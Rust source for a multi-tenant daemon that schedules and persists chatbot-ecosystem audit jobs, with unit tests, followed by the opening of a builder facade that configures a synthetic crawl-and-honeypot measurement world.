                    tenant: a.spec.tenant,
                    epoch: a.payload.epoch(),
                })
                .collect(),
        };
        ShutdownReport {
            outcomes: self.poll_outcomes(),
            abandoned,
        }
    }

    /// Drain the queue with legacy batch semantics (no expiry, no
    /// fairness bound, no slicing) and settle every completion. The
    /// legacy facade's `run` is exactly this plus a
    /// [`Self::poll_outcomes`].
    pub(crate) fn drain_queue(&self) -> Vec<JobHandle> {
        let completed = self
            .daemon
            .drain_all(|_id, spec, job: &mut AuditJob, ctx| self.execute(spec, job, ctx));
        self.settle(completed.into_iter().map(JobEvent::Completed).collect())
    }

    /// Run one dispatch slice of `job` against its tenant's scoped store.
    /// Called from worker threads; everything it touches is behind the
    /// tenant map lock or owned by the job.
    fn execute(&self, spec: &JobSpec, job: &AuditJob, ctx: ExecCtx) -> StepResult<ExecOutput> {
        let state = self.tenant_state(&spec.tenant);
        let store = StoreConfig {
            backend: Arc::clone(&state.backend),
            resume: ctx.resuming,
            kill_after_frames: ctx.slice_frames,
        };
        let result = job.audit().run_scoped(&store);
        if ctx.slice_frames.is_some() && matches!(result, Err(AuditError::Interrupted { .. })) {
            // The slice lever fired at a frame boundary: every frame
            // written is durable, so park and resume on a later tick.
            return StepResult::Parked;
        }
        StepResult::Done((job.epoch(), job.audit().ecosystem_config().platform, result))
    }

    /// Turn this tick's scheduler events into [`JobOutcome`]s,
    /// sequentially in event order (so delta chaining is deterministic),
    /// and buffer them for [`Self::poll_outcomes`] / [`Self::resolve`].
    fn settle(&self, events: Vec<JobEvent<ExecOutput, AuditJob>>) -> Vec<JobHandle> {
        let mut handles = Vec::with_capacity(events.len());
        let mut settled = self.settled.lock().expect("outcome buffer poisoned");
        for event in events {
            let outcome = match event {
                JobEvent::Expired(ex) => {
                    self.settle_epoch(&ex.tenant, ex.payload.epoch(), false);
                    JobOutcome {
                        id: ex.id,
                        tenant: ex.tenant.clone(),
                        platform: ex.payload.audit().ecosystem_config().platform,
                        epoch: ex.payload.epoch(),
                        wait_ms: ex.expired_at_ms - ex.submitted_ms,
                        report: Err(ex.rejection().into()),
                        delta: None,
                        artifact_hits: 0,
                        artifact_misses: 0,
                    }
                }
                JobEvent::Completed(done) => self.settle_completed(done),
            };
            handles.push(JobHandle { id: outcome.id });
            settled.push(outcome);
        }
        handles
    }

    fn settle_completed(&self, done: CompletedJob<ExecOutput>) -> JobOutcome {
        let (epoch, platform, result) = done.output;
        let (report, delta, hits, misses) = match result {
            Ok((report, stats, referenced)) => {
                let mut tenants = self.tenants.lock().expect("tenant map poisoned");
                let state = tenants
                    .get_mut(&done.tenant)
                    .expect("tenant state exists after run");
                let delta = state.last_report.as_ref().map(|prev| {
                    DeltaReport::between_at(prev, &report, state.last_epoch.unwrap_or(0), epoch)
                });
                self.append_epoch(&state.backend, epoch, &report, delta.as_ref(), &referenced);
                // Arc::make_mut would clone the backend; rebuild the
                // state instead so the backend Arc is shared.
                *state = Arc::new(TenantState {
                    backend: Arc::clone(&state.backend),
                    last_report: Some(report.clone()),
                    last_epoch: Some(epoch),
                });
                drop(tenants);
                self.settle_epoch(&done.tenant, epoch, true);
                (
                    Ok(report),
                    delta,
                    stats.artifact_hits,
                    stats.artifact_misses,
                )
            }
            Err(e) => {
                self.settle_epoch(&done.tenant, epoch, false);
                (Err(e), None, 0, 0)
            }
        };
        JobOutcome {
            id: done.id,
            tenant: done.tenant,
            platform,
            epoch,
            wait_ms: done.wait_ms,
            report,
            delta,
            artifact_hits: hits,
            artifact_misses: misses,
        }
    }

    /// Commit one settled epoch to the tenant's chain: journal the report
    /// and delta as content-addressed pack blobs, then append the linked
    /// epoch record. Best-effort by design — the chain is history, the
    /// outcome already stands — so failures only move `oplog.*` counters.
    /// An epoch at or below the persisted head (the legacy facade's
    /// deliberate resubmissions) is skipped, never forked.
    fn append_epoch(
        &self,
        backend: &Arc<dyn Backend>,
        epoch: u32,
        report: &CanonicalReport,
        delta: Option<&DeltaReport>,
        referenced: &[ContentHash],
    ) {
        let appended = (|| -> io::Result<bool> {
            let mut chain = EpochChain::open(Arc::clone(backend))?;
            if chain.is_sealed() || chain.head().map(|h| epoch <= h.epoch).unwrap_or(false) {
                return Ok(false);
            }
            let cache = ArtifactCache::open(Arc::clone(backend), PACK_FILE)?;
            let report_json = serde_json::to_vec(report).expect("reports always serialize");
            let report_key = oplog::report_blob_key(&report_json);
            cache.put(report_key, &report_json)?;
            let delta_key = match delta {
                Some(delta) => {
                    let delta_json = serde_json::to_vec(delta).expect("deltas always serialize");
                    let key = oplog::delta_blob_key(&delta_json);
                    cache.put(key, &delta_json)?;
                    Some(oplog::to_hex(&key))
                }
                None => None,
            };
            chain.append(EpochRecord {
                epoch,
                prev_epoch: None, // linkage is filled in by the chain
                platform: report.platform,
                parent: oplog::to_hex(&oplog::ZERO_HASH),
                report_key: oplog::to_hex(&report_key),
                delta_key,
                artifact_keys: referenced.iter().map(oplog::to_hex).collect(),
                bots: report.bots.len() as u32,
                trend: trend_of(delta),
            })?;
            Ok(true)
        })();
        let counter = match appended {
            Ok(true) => "oplog.appended",
            Ok(false) => "oplog.append_skipped",
            Err(_) => "oplog.append_failed",
        };
        self.obs.counter(counter).incr();
    }

    fn tenant_state(&self, tenant: &str) -> Arc<TenantState> {
        let mut tenants = self.tenants.lock().expect("tenant map poisoned");
        if !tenants.contains_key(tenant) {
            let backend: Arc<dyn Backend> =
                Arc::new(ScopedBackend::new(Arc::clone(&self.root), tenant));
            let (last_report, last_epoch) = self.restore_baseline(&backend);
            tenants.insert(
                tenant.to_string(),
                Arc::new(TenantState {
                    backend,
                    last_report,
                    last_epoch,
                }),
            );
        }
        Arc::clone(tenants.get(tenant).expect("just inserted"))
    }

    /// Rehydrate a tenant's delta baseline from its persisted chain: the
    /// head record names the report blob by content key, so no audit is
    /// replayed. Any damage degrades to a cold baseline, never an error.
    fn restore_baseline(
        &self,
        backend: &Arc<dyn Backend>,
    ) -> (Option<CanonicalReport>, Option<u32>) {
        let head = match EpochChain::open(Arc::clone(backend)) {
            Ok(chain) => match chain.head() {
                Some(head) => head.clone(),
                None => return (None, None),
            },
            Err(_) => return (None, None),
        };
        let report = oplog::parse_hex(&head.report_key)
            .and_then(|key| {
                ArtifactCache::open(Arc::clone(backend), PACK_FILE)
                    .ok()?
                    .peek(&key)
            })
            .and_then(|blob| serde_json::from_slice::<CanonicalReport>(&blob).ok());
        if report.is_some() {
            self.obs.counter("oplog.restored").incr();
        }
        (report, Some(head.epoch))
    }

    /// The committed epoch records of `tenant`, genesis first. Answered
    /// from the persisted chain — no audit is replayed. Unknown tenants
    /// (valid id, nothing persisted) have empty histories.
    pub fn history(&self, tenant: &str) -> Result<Vec<EpochRecord>, AuditError> {
        validate_tenant(tenant)?;
        let state = self.tenant_state(tenant);
        let chain = EpochChain::open(Arc::clone(&state.backend))
            .map_err(|e| AuditError::Store(e.into()))?;
        Ok(chain.records().to_vec())
    }

    /// Materialized trend views over `tenant`'s chain: traceability
    /// flips, cumulative permission creep, drift curve. Computed from the
    /// chain's pre-digested trend facts with zero audit replays.
    pub fn trends(&self, tenant: &str) -> Result<TrendQuery, AuditError> {
        Ok(TrendQuery::from_records(&self.history(tenant)?))
    }

    /// Fleet-wide drift curves: per-platform, per-epoch drift counters
    /// summed across every tenant this daemon has touched.
    pub fn fleet_trends(&self) -> Result<Vec<PlatformDrift>, AuditError> {
        let names: Vec<String> = {
            let tenants = self.tenants.lock().expect("tenant map poisoned");
            tenants.keys().cloned().collect()
        };
        let mut histories = Vec::with_capacity(names.len());
        for name in names {
            let records = self.history(&name)?;
            histories.push((name, records));
        }
        Ok(oplog::fleet_drift_curves(&histories))
    }

    /// Snapshot tenant `src`'s workspace (artifact pack, validator cache,
    /// head epoch — no history) into fresh tenant `dst` for a cheap
    /// what-if re-audit. Returns the clone's genesis record. Fails with a
    /// `config`-kind error when `src` has no committed epochs or `dst`
    /// already exists. Call between ticks — never while an audit of `src`
    /// is in flight.
    pub fn clone_tenant(&self, src: &str, dst: &str) -> Result<EpochRecord, AuditError> {
        validate_tenant(src)?;
        validate_tenant(dst)?;
        if self
            .tenants
            .lock()
            .expect("tenant map poisoned")
            .contains_key(dst)
        {
            return Err(AuditError::config(format!(
                "tenant {dst:?} already exists; clones only materialize into \
                 fresh workspaces"
            )));
        }
        let src_backend = Arc::clone(&self.tenant_state(src).backend);
        let dst_backend: Arc<dyn Backend> =
            Arc::new(ScopedBackend::new(Arc::clone(&self.root), dst));
        let genesis =
            oplog::clone_workspace(&src_backend, &dst_backend).map_err(|e| match e.kind() {
                io::ErrorKind::InvalidInput | io::ErrorKind::AlreadyExists => {
                    AuditError::config(e.to_string())
                }
                _ => AuditError::Store(e.into()),
            })?;
        self.obs.counter("oplog.clones").incr();
        Ok(genesis)
    }

    /// Generational pack compaction for `tenant`: drop every artifact
    /// blob not referenced by the last `keep_last` committed epochs (the
    /// head generation is always kept). Emits `store.compaction.*`
    /// counters. Call between ticks — never while an audit of the tenant
    /// is in flight, since blobs of an uncommitted epoch are not yet in
    /// the chain's keep-set.
    pub fn compact_tenant(
        &self,
        tenant: &str,
        keep_last: usize,
    ) -> Result<CompactionOutcome, AuditError> {
        validate_tenant(tenant)?;
        let state = self.tenant_state(tenant);
        let chain = EpochChain::open(Arc::clone(&state.backend))
            .map_err(|e| AuditError::Store(e.into()))?;
        if chain.is_empty() {
            return Err(AuditError::config(format!(
                "tenant {tenant:?} has no committed epochs; nothing pins the \
                 pack, so compaction would drop live artifacts"
            )));
        }
        oplog::compact_generations(&state.backend, &chain, keep_last, &self.obs)
            .map_err(|e| AuditError::Store(e.into()))
    }
}

/// Digest a delta into the chain's pre-materialized trend facts. A
/// genesis epoch (no delta) digests to the all-zero trend.
fn trend_of(delta: Option<&DeltaReport>) -> oplog::EpochTrend {
    let Some(delta) = delta else {
        return oplog::EpochTrend::default();
    };
    oplog::EpochTrend {
        drifted: delta.drifted.len() as u32,
        unchanged: delta.unchanged as u32,
        appeared: delta.appeared.len() as u32,
        disappeared: delta.disappeared.len() as u32,
        flips: delta
            .traceability_transitions
            .iter()
            .map(|t| oplog::TraceFlip {
                bot: t.name.clone(),
                from: format!("{:?}", t.from).to_lowercase(),
                to: format!("{:?}", t.to).to_lowercase(),
            })
            .collect(),
        permissions: delta
            .permission_changes
            .iter()
            .map(|p| oplog::PermCreep {
                bot: p.name.clone(),
                added: p.added.len() as u32,
                removed: p.removed.len() as u32,
            })
            .collect(),
        new_detections: delta.new_detections.len() as u32,
        resolved_detections: delta.resolved_detections.len() as u32,
    }
}

/// Tenant ids become backend name prefixes (`<tenant>/...` inside the
/// shared root), so anything that alters path structure — separators,
/// `.`/`..` components, empty names — could collide with or escape
/// another tenant's namespace once the root is a [`store::DiskBackend`].
/// Such ids are refused at submission with a `config`-kind error before
/// anything is queued.
pub(crate) fn validate_tenant(tenant: &str) -> Result<(), AuditError> {
    let path_shaped = tenant.is_empty()
        || tenant == "."
        || tenant == ".."
        || tenant.contains('/')
        || tenant.contains('\\');
    if path_shaped {
        return Err(AuditError::config(format!(
            "invalid tenant id {tenant:?}: must be non-empty and \
             contain no path separators or dot components"
        )));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::Audit;
    use crate::error::ErrorKind;
    use sched::Lane;

    fn job(seed: u64, epoch: u32) -> AuditJob {
        Audit::builder()
            .scale(30)
            .seed(seed)
            .honeypot_sample(4)
            .site_defenses(false)
            .drift(synth::DriftConfig::default())
            .epoch(epoch)
            .into_job()
            .unwrap()
    }

    #[test]
    fn daemon_roundtrip_settles_outcomes_behind_handles() {
        let daemon = FleetDaemon::new(FleetDaemonConfig::default());
        let handle = daemon.submit(JobSpec::new("acme"), job(2022, 0)).unwrap();
        assert!(
            daemon.resolve(handle).is_none(),
            "not settled before a tick"
        );
        let settled = daemon.run_until(50);
        assert_eq!(settled, vec![handle]);
        let outcome = daemon.resolve(handle).expect("settled after the loop");
        assert!(outcome.report.is_ok());
        assert!(
            daemon.resolve(handle).is_none(),
            "resolve takes the outcome"
        );
    }

    #[test]
    fn invalid_specs_fail_fast_with_config_errors() {
        let daemon = FleetDaemon::new(FleetDaemonConfig::default());
        daemon.clock().advance(SimDuration::from_millis(100));

        let weightless = JobSpec::new("acme").weight(0);
        let err = daemon.submit(weightless, job(7, 0)).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Config);
        assert!(err.to_string().contains("weight 0"), "{err}");

        let stale = JobSpec::new("acme").deadline_ms(40);
        let err = daemon.submit(stale, job(7, 0)).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Config);
        assert!(
            err.to_string().contains("already 60 ms in the past"),
            "{err}"
        );

        let err = daemon.submit(JobSpec::new("a/b"), job(7, 0)).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Config);

        assert_eq!(daemon.queued(), 0, "rejected jobs must not be queued");
    }

    #[test]
    fn queued_jobs_expire_into_typed_outcomes() {
        let daemon = FleetDaemon::new(FleetDaemonConfig {
            // Tiny quantum keeps the flooder's later jobs queued long
            // enough to expire.
            quantum: 1,
            ..FleetDaemonConfig::default()
        });
        // One tenant floods distinct epochs; a deadline close behind the
        // clock expires before the backlog reaches it.
        for epoch in 0..3 {
            daemon.submit(JobSpec::new("flood"), job(7, epoch)).unwrap();
        }
        let doomed = daemon
            .submit(JobSpec::new("flood").deadline_ms(5), job(7, 3))
            .unwrap();
        let settled = daemon.run_until(400);
        assert!(settled.contains(&doomed));
        let outcome = daemon.resolve(doomed).expect("expired jobs still settle");
        let err = outcome.report.unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Expired);
        match err {
            AuditError::Expired { deadline_ms, .. } => assert_eq!(deadline_ms, 5),
            other => panic!("wrong variant: {other}"),
        }
        assert!(outcome.delta.is_none());
    }

    #[test]
    fn duplicate_epochs_are_rejected_in_flight_committed_and_across_restarts() {
        let root: Arc<dyn Backend> = Arc::new(MemBackend::new());
        let daemon = FleetDaemon::with_backend(FleetDaemonConfig::default(), Arc::clone(&root));
        daemon.submit(JobSpec::new("acme"), job(7, 0)).unwrap();

        // Queued but not yet settled: the epoch is in flight.
        let err = daemon.submit(JobSpec::new("acme"), job(7, 0)).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Config);
        assert!(err.to_string().contains("is already in flight"), "{err}");

        // Same epoch elsewhere is fine — the ledger is per tenant.
        daemon.submit(JobSpec::new("globex"), job(7, 0)).unwrap();

        daemon.run_until(100);

        // Settled: the epoch is committed to the tenant's chain.
        let err = daemon.submit(JobSpec::new("acme"), job(7, 0)).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Config);
        assert!(err.to_string().contains("has already run"), "{err}");

        // The rejection is durable: a fresh daemon over the same root
        // seeds its ledger from the persisted chain, so the restart
        // cannot be tricked into forking history.
        drop(daemon);
        let daemon = FleetDaemon::with_backend(FleetDaemonConfig::default(), root);
        let err = daemon.submit(JobSpec::new("acme"), job(7, 0)).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Config);
        assert!(err.to_string().contains("has already run"), "{err}");
        // ...while the next epoch is admitted normally.
        daemon.submit(JobSpec::new("acme"), job(7, 1)).unwrap();
    }

    #[test]
    fn expired_epochs_release_their_ledger_slot() {
        let daemon = FleetDaemon::new(FleetDaemonConfig {
            quantum: 1,
            ..FleetDaemonConfig::default()
        });
        for epoch in 0..3 {
            daemon.submit(JobSpec::new("flood"), job(7, epoch)).unwrap();
        }
        let doomed = daemon
            .submit(JobSpec::new("flood").deadline_ms(5), job(7, 3))
            .unwrap();
        daemon.run_until(400);
        assert!(daemon.resolve(doomed).unwrap().report.is_err());
        // The expired epoch never committed, so resubmitting it is legal.
        let retry = daemon
            .submit(JobSpec::new("flood").deadline_ms(10_000), job(7, 3))
            .unwrap();
        daemon.run_until(2_000);
        assert!(daemon.resolve(retry).unwrap().report.is_ok());
    }

    #[test]
    fn epoch_chains_answer_history_trends_and_clones_without_replay() {
        let root: Arc<dyn Backend> = Arc::new(MemBackend::new());
        let daemon = FleetDaemon::with_backend(FleetDaemonConfig::default(), Arc::clone(&root));
        for epoch in 0..3 {
            daemon
                .submit(JobSpec::new("acme"), job(2022, epoch))
                .unwrap();
        }
        daemon.run_until(400);

        let history = daemon.history("acme").unwrap();
        assert_eq!(
            history.iter().map(|r| r.epoch).collect::<Vec<_>>(),
            vec![0, 1, 2]
        );
        assert_eq!(history[0].prev_epoch, None);
        assert_eq!(history[2].prev_epoch, Some(1));
        assert!(history[0].delta_key.is_none(), "genesis has no delta");
        assert!(history[1].delta_key.is_some());
        assert!(!history[2].artifact_keys.is_empty());

        let trends = daemon.trends("acme").unwrap();
        assert_eq!(trends.drift_curve().len(), 3);
        let fleet = daemon.fleet_trends().unwrap();
        assert_eq!(fleet.len(), 1, "one platform in play");
        assert_eq!(fleet[0].tenants, 1);

        // Restart: the baseline is restored from the chain (no replay), so
        // the next epoch still yields a delta against epoch 2.
        drop(daemon);
        let daemon = FleetDaemon::with_backend(FleetDaemonConfig::default(), Arc::clone(&root));
        let h = daemon.submit(JobSpec::new("acme"), job(2022, 3)).unwrap();
        daemon.run_until(600);
        let outcome = daemon.resolve(h).unwrap();
        let delta = outcome.delta.expect("restored baseline yields a delta");
        assert_eq!((delta.prev_epoch, delta.epoch), (2, 3));
        assert_eq!(daemon.history("acme").unwrap().len(), 4);

        // Clone: point-in-time snapshot, no history.
        let genesis = daemon.clone_tenant("acme", "fork").unwrap();
        assert_eq!(genesis.epoch, 3);
        let fork_history = daemon.history("fork").unwrap();
        assert_eq!(fork_history.len(), 1);
        let err = daemon.clone_tenant("acme", "fork").unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Config);

        // Compaction: dropping generations before the last two reclaims
        // bytes while every surviving epoch's blobs stay resolvable.
        let outcome = daemon.compact_tenant("acme", 2).unwrap();
        assert!(outcome.reclaimed_bytes() > 0, "{outcome:?}");
        assert_eq!(outcome.kept_epochs, 2);
        let err = daemon.compact_tenant("empty", 2).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Config);
    }

    #[test]
    fn shutdown_drain_finishes_everything() {
        let daemon = FleetDaemon::new(FleetDaemonConfig::default());
        let a = daemon.submit(JobSpec::new("a"), job(5, 0)).unwrap();
        let b = daemon.submit(JobSpec::new("b"), job(5, 0)).unwrap();
        let report = daemon.shutdown(ShutdownMode::Drain);
        assert!(report.abandoned.is_empty());
        let ids: Vec<JobId> = report.outcomes.iter().map(|o| o.id).collect();
        assert_eq!(ids, vec![a.id(), b.id()]);
        assert!(report.outcomes.iter().all(|o| o.report.is_ok()));
    }

    #[test]
    fn shutdown_abandon_returns_queued_jobs_unrun() {
        let daemon = FleetDaemon::new(FleetDaemonConfig::default());
        let done = daemon.submit(JobSpec::new("a"), job(5, 0)).unwrap();
        daemon.run_until(20);
        let waiting = daemon
            .submit(JobSpec::new("b").lane(Lane::Batch), job(5, 1))
            .unwrap();
        let report = daemon.shutdown(ShutdownMode::Abandon);
        assert_eq!(report.outcomes.len(), 1);
        assert_eq!(report.outcomes[0].id, done.id());
        assert_eq!(
            report.abandoned,
            vec![AbandonedAudit {
                id: waiting.id(),
                tenant: "b".into(),
                epoch: 1,
            }]
        );
    }

    #[test]
    fn preempted_batch_audit_resumes_to_an_identical_report() {
        // Reference: the same audit, never sliced.
        let unsliced = FleetDaemon::new(FleetDaemonConfig {
            batch_slice_frames: None,
            ..FleetDaemonConfig::default()
        });
        let h = unsliced
            .submit(JobSpec::new("acme").lane(Lane::Batch), job(2022, 0))
            .unwrap();
        unsliced.run_until(50);
        let reference = unsliced.resolve(h).unwrap().report.unwrap();

        // Sliced: the batch audit parks repeatedly and resumes from its
        // journal each tick.
        let sliced = FleetDaemon::new(FleetDaemonConfig {
            batch_slice_frames: Some(4),
            ..FleetDaemonConfig::default()
        });
        let h = sliced
            .submit(JobSpec::new("acme").lane(Lane::Batch), job(2022, 0))
            .unwrap();
        let settled = sliced.run_until(600);
        assert_eq!(settled, vec![h], "sliced audit must finish within the loop");
        let report = sliced.resolve(h).unwrap().report.unwrap();
        assert_eq!(
            serde_json::to_string(&report).unwrap(),
            serde_json::to_string(&reference).unwrap(),
            "a parked-and-resumed audit must reproduce the unsliced report"
        );
        let parked = sliced
            .obs()
            .metrics_snapshot()
            .into_iter()
            .find_map(|(name, v)| match (name.as_str(), v) {
                ("sched.parked", obs::MetricValue::Counter(n)) => Some(n),
                _ => None,
            })
            .unwrap_or(0);
        assert!(parked >= 1, "the slice lever must actually have fired");
    }
}
