//! The one-stop audit facade.
//!
//! Driving a full measurement used to mean assembling seven config structs
//! from five crates ([`AuditConfig`], [`CrawlConfig`](crawler::crawl::CrawlConfig),
//! `CampaignConfig`, `SiteConfig`, [`StoreConfig`], `ClientConfig`,
//! [`EcosystemConfig`]) and
//! wiring them together by hand. [`Audit::builder`] collapses that into one
//! typed builder: every commonly-tuned knob has a setter, [`AuditBuilder::build`]
//! validates the combination up front, and [`Audit::run`] /
//! [`Audit::run_resumable`] return the canonical report behind the single
//! [`AuditError`] surface.
//!
//! The old structs remain available (hidden from docs) so existing code and
//! tests keep compiling; new code should not need them.

use crate::error::AuditError;
use crate::pipeline::{AuditConfig, AuditPipeline};
use crate::report::CanonicalReport;
use crate::resume::StoreConfig;
use crate::service::AuditJob;
use obs::Obs;
use platform::{PlatformKind, TELEGRAM_LIST_HOST};
use policy::KeywordOntology;
use store::StoreStats;
use synth::{build_ecosystem, build_ecosystem_at, DriftConfig, Ecosystem, EcosystemConfig};

/// The listing host a platform's directory canonically mounts on.
fn canonical_list_host(kind: PlatformKind) -> &'static str {
    match kind {
        PlatformKind::Discord => botlist::LIST_HOST,
        PlatformKind::Telegram => TELEGRAM_LIST_HOST,
    }
}

/// A fully-configured audit, ready to run against its synthetic world.
///
/// Construct with [`Audit::builder`]. Each [`run`](Audit::run) builds the
/// world from scratch, so repeated runs of one `Audit` are independent and
/// deterministic: the same seed yields the same canonical report.
///
/// ```
/// use chatbot_audit::Audit;
///
/// let audit = Audit::builder()
///     .scale(40)
///     .seed(2022)
///     .workers(2)
///     .honeypot_sample(5)
///     .build()
///     .expect("valid configuration");
/// let report = audit.run().expect("audit completes");
/// assert_eq!(report.bots.len(), 40);
/// ```
pub struct Audit {
    config: AuditConfig,
    eco: EcosystemConfig,
    store: Option<StoreConfig>,
    obs: Obs,
    drift: Option<DriftConfig>,
    epoch: u32,
}

impl std::fmt::Debug for Audit {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Audit")
            .field("config", &self.config)
            .field("eco", &self.eco)
            .field("store", &self.store)
            .finish_non_exhaustive()
    }
}

impl Audit {
    /// Start building an audit. All knobs default to the paper-shaped
    /// 500-bot world with listing-site defenses on and one worker.
    pub fn builder() -> AuditBuilder {
        AuditBuilder::default()
    }

    /// The observability handle every run reports through — read metrics
    /// (`crawl.*`, `analysis.*`, `honeypot.*`, `store.*`) after a run, or
    /// install a recorder at build time with [`AuditBuilder::obs`].
    pub fn obs(&self) -> &Obs {
        &self.obs
    }

    /// The resolved pipeline configuration (read-only).
    pub fn config(&self) -> &AuditConfig {
        &self.config
    }

    /// The resolved world configuration (read-only).
    pub fn ecosystem_config(&self) -> &EcosystemConfig {
        &self.eco
    }

    /// Which drift epoch this audit observes (0 = the frozen snapshot).
    pub fn epoch(&self) -> u32 {
        self.epoch
    }

    fn world(&self) -> Ecosystem {
        if self.epoch == 0 && self.drift.is_none() {
            build_ecosystem(&self.eco)
        } else {
            let drift = self.drift.clone().unwrap_or_default();
            build_ecosystem_at(&self.eco, &drift, self.epoch).0
        }
    }

    fn pipeline(&self) -> AuditPipeline {
        AuditPipeline::with_obs(self.config.clone(), self.obs.clone())
    }

    /// Build the world and run every stage (crawl → traceability → code →
    /// honeypot), returning the canonical, worker-count-independent report.
    pub fn run(&self) -> Result<CanonicalReport, AuditError> {
        let eco = self.world();
        Ok(self.pipeline().run_full(&eco).canonical())
    }

    /// Like [`Self::run`], but journaled through the crash-safe store set
    /// with [`AuditBuilder::store`] (an in-memory store when unset): a run
    /// interrupted at any frame surfaces [`AuditError::Interrupted`] and
    /// resumes — against the same backend, with
    /// [`StoreConfig::resuming`] — into a byte-identical report.
    pub fn run_resumable(&self) -> Result<CanonicalReport, AuditError> {
        let eco = self.world();
        let store = match &self.store {
            Some(cfg) => cfg.clone(),
            None => StoreConfig::in_memory(),
        };
        let outcome = self.pipeline().run_resumable(&eco, &store, self.eco.seed)?;
        Ok(outcome.report.canonical())
    }

    /// Run against an explicit store, returning the store statistics
    /// alongside the report. The fleet service uses this to journal each
    /// tenant's runs into that tenant's scoped slice of a shared backend
    /// and to observe artifact-cache hit rates for incremental re-audits.
    ///
    /// This is the conditional-fetch path: the tenant's validator cache
    /// (journaled next to the artifact pack) plus the site's change ledger
    /// turn an epoch-N+1 re-audit into 304 probes for everything the
    /// ledger left alone, full fetches only for the drifted bots, and
    /// replayed guild transcripts for every undrifted honeypot sample.
    pub(crate) fn run_scoped(
        &self,
        store: &StoreConfig,
    ) -> Result<(CanonicalReport, StoreStats, Vec<store::ContentHash>), AuditError> {
        let eco = self.world();
        let outcome = self
            .pipeline()
            .run_incremental(&eco, store, self.eco.seed, self.epoch)?;
        Ok((
            outcome.report.canonical(),
            outcome.store_stats,
            outcome.referenced_keys,
        ))
    }
}

/// Typed, validated builder for [`Audit`]. See the crate-level and
/// [`Audit`] docs for a runnable example.
///
/// Setters are grouped by the config struct they replace: world shape
/// (`EcosystemConfig`), crawl (`CrawlConfig`), analysis (`AuditConfig`),
/// honeypot (`CampaignConfig`), persistence (`StoreConfig`), and
/// observability ([`Obs`]).
#[derive(Default)]
pub struct AuditBuilder {
    config: AuditConfig,
    eco: EcosystemConfig,
    store: Option<StoreConfig>,
    obs: Option<Obs>,
    drift: Option<DriftConfig>,
    epoch: u32,
    bad_platform: Option<String>,
}

impl AuditBuilder {
    // ---- world shape ---------------------------------------------------

    /// Number of bot listings in the synthetic world (paper: 20,915).
    pub fn scale(mut self, num_bots: usize) -> Self {
        self.eco.num_bots = num_bots;
        self
    }

    /// Which messaging substrate the world mounts on (defaults to
    /// Discord). Retargets the crawl — counters namespace under
    /// `crawl.<platform>.*` and the listing host moves to the platform's
    /// canonical directory — and the honeypot, which installs via deep
    /// links instead of OAuth on Telegram.
    pub fn platform(mut self, kind: PlatformKind) -> Self {
        self.eco.platform = kind;
        self.config.crawl.platform = kind;
        self.config.crawl.list_host = canonical_list_host(kind).to_string();
        self
    }

    /// [`Self::platform`] from a string tag (`"discord"` / `"telegram"`),
    /// as a fleet manifest or CLI flag would supply it. An unknown tag is
    /// remembered and surfaces as [`AuditError::Config`] from
    /// [`Self::build`] — before any world is built or crawled.
    pub fn platform_named(self, name: &str) -> Self {
        match PlatformKind::parse(name) {
            Some(kind) => self.platform(kind),
            None => {
                let mut this = self;
                this.bad_platform = Some(name.to_string());
                this
            }
        }
    }

    /// Discord only: enable the per-message least-privilege delivery
    /// mitigation — bot backends receive only messages that mention them
    /// or match a registered command, so a snooper has nothing to skim.
    pub fn least_privilege(mut self, enabled: bool) -> Self {
        self.eco.least_privilege_delivery = enabled;
        self
    }

    /// Crawl a non-canonical listing host (a mirror). The host must not be
    /// the *other* platform's directory — [`Self::build`] rejects that
    /// cross-platform mismatch.
    pub fn list_host(mut self, host: &str) -> Self {
        self.config.crawl.list_host = host.to_string();
        self
    }

    /// Master world seed. Also seeds the crawl and honeypot RNG streams
    /// unless [`Self::crawl_seed`] / [`Self::honeypot_seed`] override them.
    pub fn seed(mut self, seed: u64) -> Self {
        self.eco.seed = seed;
        self.config.crawl.seed = seed;
        self.config.honeypot.seed = seed;
        self
    }

    /// Bots per listing page (paper: 25/page).
    pub fn page_size(mut self, bots_per_page: usize) -> Self {
        self.eco.page_size = bots_per_page;
        self
    }

    /// Toggle all three listing-site defenses (captcha interstitials, rate
    /// limiting, the email wall) at once. They default on, matching the
    /// obstacles §4.2 reports.
    pub fn site_defenses(mut self, enabled: bool) -> Self {
        if enabled {
            let d = EcosystemConfig::default();
            self.eco.captcha_every = d.captcha_every;
            self.eco.rate_limit = d.rate_limit;
            self.eco.email_wall_after_page = d.email_wall_after_page;
        } else {
            self.eco.captcha_every = None;
            self.eco.rate_limit = None;
            self.eco.email_wall_after_page = None;
        }
        self
    }

    /// Fault injection: the listing site's validators lie — conditional
    /// fetches answer 304 even for pages whose content drifted. The
    /// incremental crawl must never trust a validator for a page the
    /// change ledger names, so audits stay byte-identical regardless.
    pub fn stale_validators(mut self, stale: bool) -> Self {
        self.eco.stale_validators = stale;
        self
    }

    // ---- longitudinal drift --------------------------------------------

    /// Ecosystem drift model applied between epochs (defaults to
    /// [`DriftConfig::default`]'s paper-shaped churn rates when only
    /// [`Self::epoch`] is set).
    pub fn drift(mut self, drift: DriftConfig) -> Self {
        self.drift = Some(drift);
        self
    }

    /// Observe the world after this many drift epochs (0 = the frozen
    /// snapshot the rest of the workspace audits).
    pub fn epoch(mut self, epoch: u32) -> Self {
        self.epoch = epoch;
        self
    }

    // ---- crawl ---------------------------------------------------------

    /// Stop the listing traversal after this many pages.
    pub fn max_pages(mut self, pages: usize) -> Self {
        self.config.crawl.max_pages = Some(pages);
        self
    }

    /// Use the polite (rate-limited, jittered) crawl session. Defaults on;
    /// the ablation turns it off.
    pub fn polite(mut self, polite: bool) -> Self {
        self.config.crawl.polite = polite;
        self
    }

    /// Whether to validate invite links (network-heavy). Defaults on.
    pub fn validate_invites(mut self, validate: bool) -> Self {
        self.config.crawl.validate_invites = validate;
        self
    }

    /// Whether to visit websites and fetch privacy policies. Defaults on.
    pub fn fetch_policies(mut self, fetch: bool) -> Self {
        self.config.crawl.fetch_policies = fetch;
